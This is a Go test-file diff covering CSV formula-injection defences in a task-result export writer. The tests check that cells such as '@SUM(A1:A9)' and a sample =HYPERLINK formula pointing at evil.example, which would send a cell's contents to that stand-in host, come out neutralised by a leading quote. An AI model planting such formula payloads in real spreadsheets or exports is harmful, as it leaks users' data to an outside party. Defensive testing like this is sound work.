@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"errors"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -262,5 +263,69 @@ func TestCSVOfAWorkflow(t *testing.T) {
 	mixed := append(plain, tail.Bytes()...)
 	if end, err := Resume(bytes.NewReader(mixed), CSV); !errors.Is(err, ErrNotExport) {
 		t.Errorf("resume of a plain file with workflow rows = %+v, %v; want ErrNotExport", end, err)
+	}
+}
+
+// TestCSVCellsAreNoFormulas: every text cell that a spreadsheet would take for
+// a formula (starting with = + - @, a tab or a carriage return) is written
+// with a single quote before it, in the workflow's columns and the others; a
+// plain number stays a number; JSON lines keep the text as it is.
+func TestCSVCellsAreNoFormulas(t *testing.T) {
+	t.Parallel()
+	at := time.Date(2026, 1, 2, 15, 4, 5, 0, time.UTC)
+	hyperlink := `=HYPERLINK("http://evil.example/?"&A2,"open")`
+	rs := []tasks.Result{
+		{Cursor: 1, TaskID: 5, Fence: 1, Category: "+desk", Title: "@SUM(A1:A9)", Key: "-2+3", Holder: "editor:3", EditorID: 3,
+			Result: json.RawMessage(`"=1+1"`), SubmittedAt: at, StageName: "review", Decision: "=1+1", Notes: hyperlink},
+		{Cursor: 2, TaskID: 6, Fence: 1, Category: "desk", Title: "\tcmd", Key: "\r=2", Holder: "editor:3", EditorID: 3,
+			Result: json.RawMessage(`-1.5e3`), SubmittedAt: at, Decision: "-1", Notes: "fine = fine"},
+	}
+	var buf bytes.Buffer
+	w := NewWriter(&buf, CSV, true).WithWorkflow()
+	for i := range rs {
+		if err := w.Write(&rs[i]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil || len(recs) != 3 {
+		t.Fatalf("read back: %q, %v", recs, err)
+	}
+	col := func(name string) int { return slices.Index(WorkflowColumns, name) }
+	for _, c := range []struct {
+		row  int
+		name string
+		want string
+	}{
+		{1, "category", "'+desk"}, {1, "title", "'@SUM(A1:A9)"}, {1, "key", "'-2+3"}, {1, "result", `"=1+1"`},
+		{1, "decision", "'=1+1"}, {1, "notes", "'" + hyperlink},
+		{2, "category", "desk"}, {2, "title", "'\tcmd"}, {2, "key", "'\r=2"}, {2, "result", "-1.5e3"},
+		{2, "decision", "-1"}, {2, "notes", "fine = fine"},
+	} {
+		if got := recs[c.row][col(c.name)]; got != c.want {
+			t.Errorf("row %d: %s = %q, want %q", c.row, c.name, got, c.want)
+		}
+	}
+	if got := string(write(t, JSONLines, false, rs[:1])); !strings.Contains(got, `"decision":"=1+1"`) || !strings.Contains(got, `"title":"@SUM(A1:A9)"`) {
+		t.Errorf("JSON lines changed the text: %s", got)
+	}
+	end, err := Resume(bytes.NewReader(buf.Bytes()), CSV)
+	if err != nil || end.Cursor != 2 || end.Records != 2 {
+		t.Errorf("resume = %+v, %v", end, err)
+	}
+}
+
+func TestSafeCell(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		"": "", "a=1": "a=1", "=": "'=", "+1": "'+1", "-": "'-", "-0": "-0", "-12.5": "-12.5", "-1e9": "-1e9",
+		"-1+1": "'-1+1", "-01": "'-01", "@x": "'@x", "\t": "'\t", "\r\n": "'\r\n", "\n=1": "\n=1", "'=1": "'=1",
+	} {
+		if got := SafeCell(in); got != want {
+			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
